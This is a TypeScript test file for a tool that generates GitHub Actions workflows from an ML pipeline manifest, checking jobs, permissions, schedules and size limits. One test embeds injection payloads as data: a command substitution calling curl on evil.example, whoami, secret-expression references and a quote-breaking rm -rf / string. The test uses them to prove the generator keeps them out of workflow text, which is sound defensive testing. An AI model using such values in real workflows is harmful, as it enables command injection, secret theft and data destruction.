// Generated workflows checked by GitHub's own parser, and their `if:` conditions evaluated by
// GitHub's own expression engine over a simulated run.
import { readFileSync } from "node:fs";
import path from "node:path";
import { data, Evaluator, Lexer, Parser } from "@actions/expressions";
import { truthy } from "@actions/expressions/result";
import { convertWorkflowTemplate, NoOperationTraceWriter, parseWorkflow } from "@actions/workflow-parser";
import { describe, expect, it } from "vitest";
import { parse as parseYaml } from "yaml";
import { parseManifest } from "../../src/manifest/load.js";
import type { Project } from "../../src/manifest/project.js";
import { environmentOfBranch } from "../../src/app/environment.js";
import {
  checkWorkflow,
  generateWorkflow,
  generateWorkflowFile,
  MAX_WORKFLOW_BYTES,
} from "../../src/workflow/generate.js";
import { assetJobId } from "../../src/workflow/layers.js";
import { scheduleEntries } from "../../src/workflow/schedules.js";
import { type JobStatus, playWorkflow } from "../support/workflow-play.js";

const ROOT = path.resolve(import.meta.dirname, "../..");

function project(source: string): Project {
  const result = parseManifest(source, { manifestPath: "/repo/kiln.yml", displayName: "kiln.yml" });
  if (!result.ok) throw new Error(result.error.map((d) => d.message).join("\n"));
  return result.value.project;
}

async function validate(name: string, content: string) {
  const result = parseWorkflow({ name, content }, new NoOperationTraceWriter());
  const errors = result.context.errors.getErrors().map((e) => e.message);
  expect(errors).toEqual([]);
  const template = await convertWorkflowTemplate(result.context, result.value!);
  expect(result.context.errors.getErrors().map((e) => e.message)).toEqual([]);
  return template;
}

const CHAIN = `version: 1
assets:
  raw-data:
    code-version: "1"
    run: python ingest.py
    outputs: [build/raw.csv]
  features:
    deps: [raw-data]
    code-version: "1"
    run: python features.py
    outputs: [build/features]
  model:
    deps: [features]
    code-version: "1"
    run: python train.py
    outputs: [build/model.json]
    env: { HF_TOKEN: { secret: HF_TOKEN }, MODE: fast }
    runs-on: [self-hosted, gpu]
    timeout: 2h
    retries: 1
    metrics: { primary: mae, direction: minimize }
    promote: { min-delta: 0.5 }
    automation: { any: [{ on_cron: "17 3 * * 1", tz: Europe/Berlin }, { cron: "0 6 * * *" }] }
  report:
    deps: [model]
    code-version: "1"
    run: python report.py
    automation: { on_cron: "17 3 * * 1", tz: Europe/Berlin }
environments:
  prod: { branches: [main, release] }
alerts:
  slack: { webhook-secret: SLACK_WEBHOOK_URL }
  github-issue: true
`;

/**
 * Plays a workflow run with GitHub's expression engine (test/support/workflow-play.ts). The plan
 * step answers with `plan` and its other `outputs` (the layer lists, `aliases`); a step fails when
 * its job id, or for a matrix leg its asset, is in `fails`.
 */
async function simulate(
  text: string,
  plan: Record<string, "run" | "skip">,
  fails: ReadonlySet<string> = new Set(),
  cancelled = false,
  outputs: Record<string, string> = {},
): Promise<Record<string, JobStatus>> {
  const played = await playWorkflow({
    workflow: text,
    github: { event_name: "push", ref: "refs/heads/main", workflow: "Kiln" },
    cancelled,
    runStep: (job, step, matrix) => {
      if (step.with.command === undefined) return undefined;
      if (step.with.command === "plan") {
        if (fails.has(job)) return { ok: false, outputs: {} };
        return { ok: true, outputs: { plan: JSON.stringify(plan), force: "[]", ...outputs } };
      }
      return { ok: !fails.has(job) && !fails.has(String(matrix?.asset)), outputs: {} };
    },
  });
  return played.results;
}

/** Job id → the ids it needs, as GitHub's parser read them. */
function needsOf(template: Awaited<ReturnType<typeof validate>>): Record<string, string[]> {
  return Object.fromEntries(
    template.jobs.map((j) => [
      j.id.value,
      (j as { needs?: { value: string }[] }).needs?.map((n) => n.value) ?? [],
    ]),
  );
}

/** A chain a0 → a1 → … of `length` assets whose names are `width` characters long. */
function chain(length: number, width: number): { manifest: string; names: string[] } {
  const names = Array.from({ length }, (_, i) => `stage-${String(i).padStart(3, "0")}-`.padEnd(width, "x"));
  const lines = ["version: 1", "assets:"];
  names.forEach((name, i) => {
    lines.push(`  ${name}:`, `    code-version: "1"`, `    run: make ${i}`);
    if (i > 0) lines.push(`    deps: [${names[i - 1]}]`);
  });
  return { manifest: `${lines.join("\n")}\n`, names };
}

describe("kiln generate", () => {
  it("writes a workflow GitHub's parser accepts, with the expected jobs and needs", async () => {
    const text = generateWorkflow(project(CHAIN), { manifestPath: "kiln.yml" });
    const template = await validate("kiln.yml", text);
    const jobs = needsOf(template);
    expect(jobs).toEqual({
      "kiln-plan": [],
      // prod names release too: a schedule's tick is dispatched there, beside the plan.
      "kiln-dispatch": [],
      "raw-data": ["kiln-plan"],
      features: ["kiln-plan", "raw-data"],
      model: ["kiln-plan", "features"],
      report: ["kiln-plan", "model"],
      "kiln-report": ["kiln-plan", "raw-data", "features", "model", "report"],
    });
    const workflow = parseYaml(text);
    expect(workflow.on.push).toEqual({ branches: ["main", "release"] });
    expect(workflow.on.schedule).toEqual([
      { cron: "0 6 * * *" },
      { cron: "17 3 * * 1", timezone: "Europe/Berlin" },
    ]);
    expect(workflow.permissions).toEqual({});
    expect(workflow.jobs.model).toMatchObject({
      "runs-on": ["self-hosted", "gpu"],
      "timeout-minutes": 250,
      permissions: { contents: "write", actions: "read" },
    });
    expect(workflow.jobs["kiln-report"].permissions).toEqual({
      contents: "read",
      actions: "read",
      "pull-requests": "write",
      issues: "write",
    });
    expect(workflow.jobs["kiln-report"].env).toBeUndefined();
    expect(workflow.jobs["kiln-report"].steps.at(-1).env).toEqual({
      KILN_SLACK_WEBHOOK: "${{ secrets.SLACK_WEBHOOK_URL }}",
    });
    // Every job's result reaches the report through `with:` (never run text), so a job that failed
    // before Kiln wrote a record is still reported.
    expect(JSON.parse(workflow.jobs["kiln-report"].steps.at(-1).with["job-results"])).toEqual({
      "kiln-plan": "${{ needs['kiln-plan'].result }}",
      "raw-data": "${{ needs['raw-data'].result }}",
      features: "${{ needs['features'].result }}",
      model: "${{ needs['model'].result }}",
      report: "${{ needs['report'].result }}",
    });
    expect(workflow.jobs.model.steps.at(-1)).toEqual({
      name: "kiln materialize",
      uses: "kiln-ml/kiln@v1",
      with: {
        command: "materialize",
        asset: "model",
        config: "${{ inputs.config }}",
        force: "${{ contains(fromJSON(needs['kiln-plan'].outputs.force), 'model') }}",
        manifest: "kiln.yml",
      },
      // The secret reaches Kiln's step only (test/workflow/secrets.test.ts plays who gets what).
      env: { HF_TOKEN: "${{ secrets.HF_TOKEN }}" },
    });
  });

  it("runs on push to every branch Kiln treats as prod: a repository whose default branch is master runs too", async () => {
    const plain = `version: 1
assets:
  model:
    code-version: "1"
    run: python train.py
    outputs: [model.json]
`;
    // Without a prod environment, prod is main or master (the repository's default is not known
    // when the file is generated): a push to either must start the workflow.
    const text = generateWorkflow(project(plain), { manifestPath: "kiln.yml" });
    await validate("kiln.yml", text);
    expect(parseYaml(text).on.push).toEqual({ branches: ["main", "master"] });
    for (const branch of ["main", "master"]) expect(environmentOfBranch(project(plain), branch)).toBe("prod");
    // A branch another environment claims is not prod's, and its pushes are not prod's to run.
    const claimed = `${plain}environments:\n  staging: { branches: [master] }\n`;
    expect(parseYaml(generateWorkflow(project(claimed), { manifestPath: "kiln.yml" })).on.push).toEqual({
      branches: ["main"],
    });
    expect(environmentOfBranch(project(claimed), "master")).toBe("staging");
    // Another environment claims both: pushes to them still run Kiln (in that environment), as
    // before; an empty list would mean no push ever does.
    const both = `${plain}environments:\n  dev: { branches: [main, master] }\n`;
    const bothText = generateWorkflow(project(both), { manifestPath: "kiln.yml" });
    await validate("kiln.yml", bothText);
    expect(parseYaml(bothText).on.push).toEqual({ branches: ["main", "master"] });
  });

  it("escapes filter-pattern characters git allows in branch names, so the push filter names the very branch", async () => {
    // On GitHub `+` repeats the character before it and a leading `!` negates: unescaped,
    // "release+1" would match "releaseee1" and not itself.
    const text = generateWorkflow(
      project(`version: 1
environments:
  prod: { branches: [main, release+1, "!hotfix"] }
assets:
  model:
    code-version: "1"
    run: python train.py
    outputs: [model.json]
`),
      { manifestPath: "kiln.yml" },
    );
    await validate("kiln.yml", text);
    expect(parseYaml(text).on.push).toEqual({ branches: ["\\!hotfix", "main", "release\\+1"] });
  });

  it("runs the manifest's setup before Kiln in the plan and report jobs when a source is observed there", async () => {
    // observe.py imports what setup installs: without setup the plan job's observe fails, the
    // source is unavailable and its dependants wait forever, though every asset job would work.
    const observed = `version: 1
setup:
  - name: Install scikit-learn
    run: sudo apt-get install -y python3-sklearn
  - uses: actions/setup-node@v4
    with: { node-version: 24 }
sources:
  raw:
    observe: /usr/bin/python3 observe.py
assets:
  model:
    deps: [raw]
    code-version: "1"
    run: python3 train.py
    outputs: [model.json]
`;
    const text = generateWorkflow(project(observed), { manifestPath: "kiln.yml" });
    await validate("kiln.yml", text);
    const jobs = parseYaml(text).jobs;
    const setup = [
      { name: "Install scikit-learn", run: "sudo apt-get install -y python3-sklearn" },
      { uses: "actions/setup-node@v4", with: { "node-version": 24 } },
    ];
    for (const [job, command] of [
      ["kiln-plan", "plan"],
      ["kiln-report", "report"],
      ["model", "materialize"],
    ] as const) {
      const steps = jobs[job].steps;
      expect(steps.slice(1, -1), job).toEqual(setup);
      expect(steps[0].uses).toBe("actions/checkout@v4");
      expect(steps.at(-1).with.command).toBe(command);
      // Sources name no secrets: setup steps and the plan's observe get none.
      if (job !== "model") expect(steps.at(-1).env, job).toBeUndefined();
    }
    // Without an observed source the plan and report jobs do not pay for setup.
    const unobserved = observed.replace(
      "    observe: /usr/bin/python3 observe.py\n",
      "    inputs: [data/*.csv]\n",
    );
    const plain = parseYaml(generateWorkflow(project(unobserved), { manifestPath: "kiln.yml" })).jobs;
    expect(plain["kiln-plan"].steps.map((s: { uses?: string }) => s.uses)).toEqual([
      "actions/checkout@v4",
      "kiln-ml/kiln@v1",
    ]);
    expect(plain["kiln-report"].steps).toHaveLength(2);
    expect(plain.model.steps.slice(1, -1)).toEqual(setup);
  });

  it("runs what the plan says, skips dependants of failures, and always reports", async () => {
    const workflow = generateWorkflow(project(CHAIN), { manifestPath: "kiln.yml" });
    const all = { "raw-data": "run", features: "run", model: "run", report: "run" } as const;
    expect(await simulate(workflow, all)).toEqual({
      "kiln-plan": "success",
      // Only a schedule event dispatches.
      "kiln-dispatch": "skipped",
      "raw-data": "success",
      features: "success",
      model: "success",
      report: "success",
      "kiln-report": "success",
    });
    // The plan skips fresh upstream assets; their dependants still run.
    expect(
      await simulate(workflow, { "raw-data": "skip", features: "skip", model: "run", report: "run" }),
    ).toMatchObject({
      "raw-data": "skipped",
      features: "skipped",
      model: "success",
      report: "success",
      "kiln-report": "success",
    });
    // A failure skips what depends on it, never the report.
    expect(await simulate(workflow, all, new Set(["features"]))).toMatchObject({
      features: "failure",
      model: "skipped",
      report: "skipped",
      "kiln-report": "success",
    });
    // A cancelled run starts no asset job but still reports.
    expect(await simulate(workflow, all, new Set(), true)).toMatchObject({
      "raw-data": "skipped",
      "kiln-report": "success",
    });
  });

  it("publishes the site to GitHub Pages only from the default branch, with Pages rights on that job alone", async () => {
    const withPages = `${CHAIN}site: { pages: true, title: "ML <history>" }\n`;
    const text = generateWorkflow(project(withPages), { manifestPath: "ml/kiln.yml" });
    await validate("kiln.yml", text);
    const workflow = parseYaml(text);
    expect(workflow.jobs["kiln-pages"]).toMatchObject({
      needs: ["kiln-report"],
      permissions: { contents: "read", pages: "write", "id-token": "write" },
      environment: { name: "github-pages", url: "${{ steps.deployment.outputs.page_url }}" },
    });
    expect(workflow.jobs["kiln-pages"].steps.slice(1)).toEqual([
      {
        id: "site",
        name: "kiln site",
        uses: "kiln-ml/kiln@v1",
        with: { command: "site", manifest: "ml/kiln.yml" },
      },
      { uses: "actions/upload-pages-artifact@v4", with: { path: "${{ steps.site.outputs.path }}" } },
      { id: "deployment", uses: "actions/deploy-pages@v4" },
    ]);
    // No other job may deploy Pages or mint an OIDC token; the title stays in the manifest.
    for (const [id, job] of Object.entries<{ permissions: Record<string, string> }>(workflow.jobs)) {
      if (id === "kiln-pages") continue;
      expect(job.permissions.pages, id).toBeUndefined();
      expect(job.permissions["id-token"], id).toBeUndefined();
    }
    expect(text).not.toContain("history>");
    expect(generateWorkflow(project(CHAIN), { manifestPath: "kiln.yml" })).not.toContain("kiln-pages");

    const all = { "raw-data": "run", features: "run", model: "run", report: "run" } as const;
    const run = async (github: Record<string, unknown>, fails = new Set<string>()) =>
      (
        await playWorkflow({
          workflow: text,
          github: {
            workflow: "Kiln",
            repository: "acme/ml",
            event: { repository: { default_branch: "main" } },
            ...github,
          },
          runStep: (job, step) =>
            step.with.command === "plan"
              ? { ok: true, outputs: { plan: JSON.stringify(all), force: "[]" } as Record<string, string> }
              : {
                  ok: !fails.has(job),
                  outputs: (step.with.command === "site" ? { path: "/tmp/site" } : {}) as Record<
                    string,
                    string
                  >,
                },
        })
      ).results["kiln-pages"];
    expect(await run({ event_name: "push", ref: "refs/heads/main", ref_name: "main" })).toBe("success");
    expect(await run({ event_name: "schedule", ref: "refs/heads/main", ref_name: "main", event: {} })).toBe(
      "success",
    );
    // A failed asset still publishes its failure to the site.
    expect(
      await run({ event_name: "push", ref: "refs/heads/main", ref_name: "main" }, new Set(["model"])),
    ).toBe("success");
    expect(await run({ event_name: "push", ref: "refs/heads/release", ref_name: "release" })).toBe("skipped");
    expect(
      await run({
        event_name: "pull_request",
        ref: "refs/pull/7/merge",
        ref_name: "7/merge",
        head_ref: "main",
      }),
    ).toBe("skipped");
  });

  it("treats hostile manifest content as data: nothing reaches run: text or an expression", () => {
    const hostile = `version: 1
assets:
  model:
    description: "$(curl evil.example) \`whoami\` \${{ secrets.GITHUB_TOKEN }}"
    code-version: "1"
    run: echo "\${{ github.event.pull_request.title }}"
    config: { note: "\${{ secrets.AWS_KEY }}", quote: "'; rm -rf / #" }
    env: { GREETING: "\${{ github.head_ref }}" }
`;
    const text = generateWorkflow(project(hostile), { manifestPath: "kiln.yml" });
    for (const needle of [
      "curl evil",
      "whoami",
      "secrets.GITHUB_TOKEN",
      "secrets.AWS_KEY",
      "pull_request.title",
      "head_ref",
      "rm -rf",
      "GREETING",
    ]) {
      expect(text).not.toContain(needle);
    }
    const expressions = [...text.matchAll(/\$\{\{(.*?)\}\}/g)].map((m) => m[1]!.trim());
    for (const expression of expressions) {
      expect(expression).toMatch(
        /^(needs\['kiln-plan'\]\.outputs\.(plan|error)|needs\['(kiln-plan|model)'\]\.result|github\.workflow|github\.ref|inputs\.assets|inputs\.config|inputs\.force \|\| false|steps\.plan\.outputs\.(plan|force|error)|contains\(fromJSON\(needs\['kiln-plan'\]\.outputs\.force\), 'model'\)|always\(\)|!cancelled\(\) && !contains\(needs\.\*\.result, 'failure'\) && !contains\(needs\.\*\.result, 'cancelled'\) && fromJSON\(needs\['kiln-plan'\]\.outputs\.plan\)\['model'\] == 'run')$/,
      );
    }
    expect(parseYaml(text).jobs.model.steps.some((s: { run?: string }) => s.run)).toBe(false);
  });

  it("switches to layer jobs with dynamic matrices for a large pipeline, under GitHub's limits", async () => {
    const lines = ["version: 1", "assets:"];
    for (let i = 0; i < 400; i++)
      lines.push(
        `  a${i}:\n    code-version: "1"\n    run: "true"${i >= 300 ? `\n    deps: [a${i - 300}]` : ""}`,
      );
    const text = generateWorkflow(project(lines.join("\n")), { manifestPath: "pipelines/kiln.yml" });
    expect(Buffer.byteLength(text)).toBeLessThan(500_000);
    const template = await validate("big.yml", text);
    const ids = template.jobs.map((j) => j.id.value);
    expect(ids).toEqual(["kiln-plan", "kiln-layer-0-1", "kiln-layer-0-2", "kiln-layer-1", "kiln-report"]);
    const workflow = parseYaml(text);
    expect(workflow.jobs["kiln-layer-1"].needs).toEqual(["kiln-plan", "kiln-layer-0-1", "kiln-layer-0-2"]);
    expect(workflow.jobs["kiln-layer-0-2"].strategy.matrix.include).toBe(
      "${{ fromJSON(needs['kiln-plan'].outputs['layer-0-2']) }}",
    );
    expect(workflow.jobs["kiln-plan"].outputs["layer-0-1"]).toBe("${{ steps.plan.outputs['layer-0-1'] }}");
  });

  it("is deterministic, and --check shows a diff when stale", () => {
    const p = project(CHAIN);
    const text = generateWorkflow(p, { manifestPath: "kiln.yml" });
    expect(generateWorkflow(project(CHAIN), { manifestPath: "kiln.yml" })).toBe(text);
    expect(checkWorkflow(p, text, { manifestPath: "kiln.yml", path: "kiln.yml" })).toEqual({
      upToDate: true,
      diff: "",
    });
    const stale = checkWorkflow(p, text.replace("timeout-minutes: 250", "timeout-minutes: 30"), {
      manifestPath: "kiln.yml",
      path: ".github/workflows/kiln.yml",
    });
    if ("error" in stale) throw new Error(stale.error);
    expect(stale.upToDate).toBe(false);
    expect(stale.diff).toContain("-    timeout-minutes: 30\n+    timeout-minutes: 250");
  });

  it("collects one schedule per cron and time zone", () => {
    expect(scheduleEntries(project(CHAIN))).toEqual([
      { cron: "0 6 * * *" },
      { cron: "17 3 * * 1", timezone: "Europe/Berlin" },
    ]);
  });

  it("schedules a tick for retry-failed, so a due retry runs without waiting for a push", async () => {
    const eager = (retry: string) =>
      `version: 1\nassets:\n  pull:\n    code-version: "1"\n    run: python pull.py\n    retry-failed: ${retry}\n  model:\n    deps: [pull]\n    code-version: "1"\n    run: python train.py\n`;
    const hourly = generateWorkflow(project(eager("1h")), { manifestPath: "kiln.yml" });
    await validate("kiln.yml", hourly);
    expect(parseYaml(hourly).on.schedule).toEqual([{ cron: "41 * * * *" }]);
    // Retries sooner than an hour: a tick every 15 minutes.
    expect(scheduleEntries(project(eager("10m")))).toEqual([{ cron: "7-59/15 * * * *" }]);
    // Next to the manifest's own crons; none without retry-failed.
    expect(
      scheduleEntries(project(CHAIN.replace("    retries: 1\n", "    retries: 1\n    retry-failed: 6h\n"))),
    ).toEqual([
      { cron: "0 6 * * *" },
      { cron: "17 3 * * 1", timezone: "Europe/Berlin" },
      { cron: "41 * * * *" },
    ]);
    expect(
      parseYaml(
        generateWorkflow(project(eager("1h").replace("    retry-failed: 1h\n", "")), {
          manifestPath: "kiln.yml",
        }),
      ).on.schedule,
    ).toBeUndefined();
  });

  it("accepts the committed example workflows and action.yml", async () => {
    const action = parseYaml(readFileSync(path.join(ROOT, "action.yml"), "utf8"));
    expect(action.runs).toEqual({ using: "node24", main: "dist/index.js" });
    expect(Object.keys(action.inputs)).toEqual([
      "command",
      "asset",
      "selection",
      "manifest",
      "environment",
      "force",
      "config",
      "event",
      "plan",
      "job-results",
      "plan-error",
      "report",
      "github-token",
    ]);
    const starter = readFileSync(path.join(ROOT, "workflows/kiln.yml"), "utf8");
    const starterManifest = readFileSync(path.join(ROOT, "workflows/kiln.manifest.yml"), "utf8");
    expect(starter, "regenerate workflows/kiln.yml").toBe(
      generateWorkflow(project(starterManifest), { manifestPath: "workflows/kiln.manifest.yml" }),
    );
    await validate("starter.yml", starter);
    for (const example of ["quickstart", "xgboost"]) {
      const manifest = readFileSync(path.join(ROOT, "examples", example, "kiln.yml"), "utf8");
      const committed = readFileSync(
        path.join(ROOT, "examples", example, ".github/workflows/kiln.yml"),
        "utf8",
      );
      const expected = generateWorkflow(project(manifest), { manifestPath: `examples/${example}/kiln.yml` });
      expect(committed, `regenerate examples/${example}: npx kiln generate`).toBe(expected);
      await validate(`${example}.yml`, committed);
    }
  });

  it("posts fork comments from workflow_run without checking out or running pull-request code", async () => {
    const text = readFileSync(path.join(ROOT, "workflows/kiln-comment.yml"), "utf8");
    await validate("kiln-comment.yml", text);
    const workflow = parseYaml(text);
    expect(workflow.on).toEqual({ workflow_run: { workflows: ["Kiln"], types: ["completed"] } });
    expect(workflow.permissions).toEqual({});
    const job = workflow.jobs.comment;
    expect(job.permissions).toEqual({ actions: "read", "pull-requests": "write" });
    const steps: { uses?: string; run?: string; with?: Record<string, string> }[] = job.steps;
    // No checkout and no shell: the pull request's files never reach this privileged job.
    expect(steps.some((s) => s.run !== undefined || s.uses?.startsWith("actions/checkout"))).toBe(false);
    expect(steps.map((s) => s.uses)).toEqual(["actions/download-artifact@v4", "kiln-ml/kiln@v1"]);
    expect(steps[0]?.with?.name).toBe("kiln-report");
    expect(steps[1]?.with?.command).toBe("comment");
    // Only fork pull requests: same-repository runs comment from their own report job.
    const gate = new Parser(
      new Lexer(job.if.replace(/^\$\{\{|\}\}$/g, "")).lex().tokens,
      ["github"],
      [],
    ).parse();
    const run = (headRepo: string, event: string) => {
      const github = new data.Dictionary(
        { key: "repository", value: new data.StringData("acme/models") },
        {
          key: "event",
          value: new data.Dictionary({
            key: "workflow_run",
            value: new data.Dictionary(
              { key: "event", value: new data.StringData(event) },
              {
                key: "head_repository",
                value: new data.Dictionary({ key: "full_name", value: new data.StringData(headRepo) }),
              },
            ),
          }),
        },
      );
      return truthy(new Evaluator(gate, new data.Dictionary({ key: "github", value: github })).evaluate());
    };
    expect(run("someone/models", "pull_request")).toBe(true);
    expect(run("acme/models", "pull_request")).toBe(false);
    expect(run("someone/models", "push")).toBe(false);
  });

  it("keeps one job per asset for a 150-asset chain of long names well under GitHub's 512,000 bytes", async () => {
    const { manifest, names } = chain(150, 29);
    const generated = generateWorkflowFile(project(manifest), { manifestPath: "kiln.yml" });
    if (!generated.ok) throw new Error(generated.error);
    expect(generated.shape).toBe("per-asset");
    expect(generated.bytes).toBe(Buffer.byteLength(generated.text));
    expect(generated.bytes).toBeLessThan(MAX_WORKFLOW_BYTES);
    // Linear in the chain's length: twice the chain, about twice the file (not four times).
    const longer = generateWorkflowFile(project(chain(300, 29).manifest), {
      manifestPath: "kiln.yml",
      layerThreshold: 1000,
    });
    if (!longer.ok) throw new Error(longer.error);
    expect(longer.bytes / generated.bytes).toBeLessThan(2.2);
    const template = await validate("chain.yml", generated.text);
    expect(template.jobs.map((j) => j.id.value)).toEqual(["kiln-plan", ...names, "kiln-report"]);
    const workflow = parseYaml(generated.text);
    expect(workflow.jobs[names[75]!].needs).toEqual(["kiln-plan", names[74]]);
  });

  it("still skips every dependant of a failure in the middle of a long chain, and only those", async () => {
    const { manifest, names } = chain(150, 29);
    const text = generateWorkflow(project(manifest), { manifestPath: "kiln.yml" });
    const all = Object.fromEntries(names.map((n) => [n, "run" as const]));
    const results = await simulate(text, all, new Set([names[75]!]));
    expect(names.slice(0, 75).map((n) => results[n])).toEqual(Array(75).fill("success"));
    expect(results[names[75]!]).toBe("failure");
    expect(names.slice(76).map((n) => results[n])).toEqual(Array(74).fill("skipped"));
    expect(results["kiln-report"]).toBe("success");
    // Fresh assets at the head of the chain are skipped by the plan; their dependants still run.
    const tail = Object.fromEntries(names.map((n, i) => [n, i < 10 ? ("skip" as const) : ("run" as const)]));
    const fromTail = await simulate(text, tail);
    expect(names.slice(0, 10).map((n) => fromTail[n])).toEqual(Array(10).fill("skipped"));
    expect(names.slice(10).map((n) => fromTail[n])).toEqual(Array(140).fill("success"));
    // A cancelled run starts nothing more.
    expect((await simulate(text, all, new Set(), true))[names[0]!]).toBe("skipped");
  });

  it("gives an asset with a 100-character name a job id GitHub accepts, and gates its dependants on it", async () => {
    const long = `m${"o".repeat(98)}l`;
    expect(long).toHaveLength(100);
    const manifest = `version: 1
assets:
  ${long}:
    code-version: "1"
    run: make
  scorer:
    deps: [${long}]
    code-version: "1"
    run: make
`;
    const text = generateWorkflow(project(manifest), { manifestPath: "kiln.yml" });
    const template = await validate("long.yml", text);
    const id = assetJobId(long);
    expect(id.length).toBeLessThan(100);
    expect(template.jobs.map((j) => j.id.value)).toEqual(["kiln-plan", id, "scorer", "kiln-report"]);
    expect(parseYaml(text).jobs[id].steps.at(-1).with.asset).toBe(long);
    const plan = { [long]: "run" as const, scorer: "run" as const };
    expect(await simulate(text, plan, new Set([id]))).toMatchObject({ [id]: "failure", scorer: "skipped" });
    expect(await simulate(text, plan)).toMatchObject({ [id]: "success", scorer: "success" });
  });

  it("starts later layers after a failed leg, so unrelated assets still run", async () => {
    const manifest = `version: 1
assets:
  data: { code-version: "1", run: make }
  model: { deps: [data], code-version: "1", run: make }
  stats: { deps: [data], code-version: "1", run: make }
  report: { deps: [model], code-version: "1", run: make }
  digest: { deps: [stats], code-version: "1", run: make }
`;
    const text = generateWorkflow(project(manifest), { manifestPath: "kiln.yml", layerThreshold: 0 });
    await validate("layers.yml", text);
    const workflow = parseYaml(text);
    // Each layer needs only the one before it: the file grows linearly with the graph's depth.
    expect(workflow.jobs["kiln-layer-2"].needs).toEqual(["kiln-plan", "kiln-layer-1"]);
    expect(workflow.jobs["kiln-layer-2"].steps.at(-1).with.plan).toBe(
      "${{ needs['kiln-plan'].outputs.plan }}",
    );
    const entry = (asset: string) => ({
      asset,
      "runs-on": "ubuntu-latest",
      "timeout-minutes": 40,
      force: false,
    });
    const plan = { data: "run", model: "run", stats: "run", report: "run", digest: "run" } as const;
    const layers = {
      "layer-0": JSON.stringify([entry("data")]),
      "layer-1": JSON.stringify([entry("model"), entry("stats")]),
      "layer-2": JSON.stringify([entry("report"), entry("digest")]),
    };
    // The model leg fails: layer 1 fails, layer 2 still starts (its report leg then skips itself,
    // see the workflow-run scenario), and the run is reported.
    expect(await simulate(text, plan, new Set(["model"]), false, layers)).toMatchObject({
      "kiln-layer-0": "success",
      "kiln-layer-1": "failure",
      "kiln-layer-2": "success",
      "kiln-report": "success",
    });
    expect(await simulate(text, plan, new Set(), true, layers)).toMatchObject({ "kiln-layer-0": "skipped" });
  });

  it("switches to layer jobs when the rendered per-asset file would pass 512,000 bytes, and fails clearly when nothing fits", async () => {
    const assets = Array.from(
      { length: 100 },
      (_, i) => `  a${i}:\n    code-version: "1"\n    run: make\n`,
    ).join("");
    const setup = (width: number) => `setup:\n  - run: echo ${"x".repeat(width)}\n`;
    // 100 jobs × 4,000 characters of setup fit; × 5,200 do not.
    const fits = generateWorkflowFile(project(`version: 1\n${setup(4000)}assets:\n${assets}`), {
      manifestPath: "kiln.yml",
    });
    expect(fits.ok && fits.shape).toBe("per-asset");
    const big = generateWorkflowFile(project(`version: 1\n${setup(5200)}assets:\n${assets}`), {
      manifestPath: "kiln.yml",
    });
    if (!big.ok) throw new Error(big.error);
    expect(big.shape).toBe("layers");
    expect(big.bytes).toBeLessThanOrEqual(MAX_WORKFLOW_BYTES);
    const template = await validate("big-setup.yml", big.text);
    expect(template.jobs.map((j) => j.id.value)).toEqual(["kiln-plan", "kiln-layer-0", "kiln-report"]);

    const huge = generateWorkflowFile(project(`version: 1\n${setup(600_000)}assets:\n${assets}`), {
      manifestPath: "kiln.yml",
    });
    expect(huge.ok).toBe(false);
    if (huge.ok) return;
    expect(huge.error).toMatch(
      /^the generated workflow would be [\d,]+ bytes with one job per asset, [\d,]+ bytes with one job per layer: over GitHub's limit of 512,000 bytes, above which GitHub starts no run$/,
    );
    expect(huge.hint).toContain("setup");
  });
});

describe("a dependency on an alias in the workflow", () => {
  const ALIASED = `version: 1
assets:
  model:
    code-version: "1"
    run: python train.py
    outputs: [build/model.json]
    metrics: { primary: mae, direction: minimize }
    promote: { min-delta: 0.5 }
  predictions:
    deps: [model@champion]
    code-version: "1"
    run: python predict.py
    outputs: [build/predictions.csv]
`;

  it("makes the dependant's job wait for the model job of the same run, and skip when it fails only while the alias names no version", async () => {
    const text = generateWorkflow(project(ALIASED), { manifestPath: "kiln.yml" });
    const template = await validate("kiln.yml", text);
    const needs = needsOf(template);
    expect(needs[assetJobId("predictions")]).toContain(assetJobId("model"));
    const plan = { model: "run", predictions: "run" } as const;
    const named = { aliases: JSON.stringify(["model@champion"]) };
    // The plan has predictions follow a planned model; it runs after the model job succeeds.
    expect((await simulate(text, plan))[assetJobId("predictions")]).toBe("success");
    // A failed training leaves the champion as it was: predictions still reads it, as `kiln run`
    // does (test/run/executor.test.ts).
    const failed = await simulate(text, plan, new Set([assetJobId("model")]), false, named);
    expect(failed).toMatchObject({
      [assetJobId("model")]: "failure",
      [assetJobId("predictions")]: "success",
    });
    // While the alias names no version, the failure leaves it nothing to read: skipped. So too
    // when the plan job gives no `aliases` (an action older than the workflow).
    for (const outputs of [{ aliases: "[]" }, {}] as Record<string, string>[])
      expect(
        (await simulate(text, plan, new Set([assetJobId("model")]), false, outputs))[
          assetJobId("predictions")
        ],
      ).toBe("skipped");
    // A failed plan job, or a cancelled run, starts nothing.
    expect(
      (await simulate(text, plan, new Set(["kiln-plan"]), false, named))[assetJobId("predictions")],
    ).toBe("skipped");
    expect((await simulate(text, plan, new Set(), true, named))[assetJobId("predictions")]).toBe("skipped");
  });

  it("keeps a plain dependency's failure skipping the dependant, and skips propagating down the chain", async () => {
    const text = generateWorkflow(
      project(`${ALIASED}  comments:
    code-version: "1"
    run: python comments.py
    outputs: [build/comments.csv]
  scores:
    deps: [comments, model@champion]
    code-version: "1"
    run: python score.py
    outputs: [build/scores.csv]
  digest:
    deps: [scores]
    code-version: "1"
    run: python digest.py
`),
      { manifestPath: "kiln.yml" },
    );
    await validate("kiln.yml", text);
    const plan = { model: "run", predictions: "run", comments: "run", scores: "run", digest: "run" } as const;
    const named = { aliases: JSON.stringify(["model@champion"]) };
    const model = new Set([assetJobId("model")]);
    expect(await simulate(text, plan, model, false, named)).toMatchObject({
      model: "failure",
      predictions: "success",
      scores: "success",
      digest: "success",
    });
    expect(await simulate(text, plan, model, false, { aliases: "[]" })).toMatchObject({
      scores: "skipped",
      digest: "skipped",
      "kiln-report": "success",
    });
    // comments is read as it is: its failure skips scores and what reads it, champion or not.
    expect(await simulate(text, plan, new Set(["comments"]), false, named)).toMatchObject({
      model: "success",
      comments: "failure",
      scores: "skipped",
      digest: "skipped",
    });
    // The plan left model alone (fresh): its skipped job holds nothing back.
    expect(
      await simulate(text, { ...plan, model: "skip", predictions: "skip" }, new Set(), false, {
        aliases: "[]",
      }),
    ).toMatchObject({ model: "skipped", scores: "success", digest: "success" });
  });
});
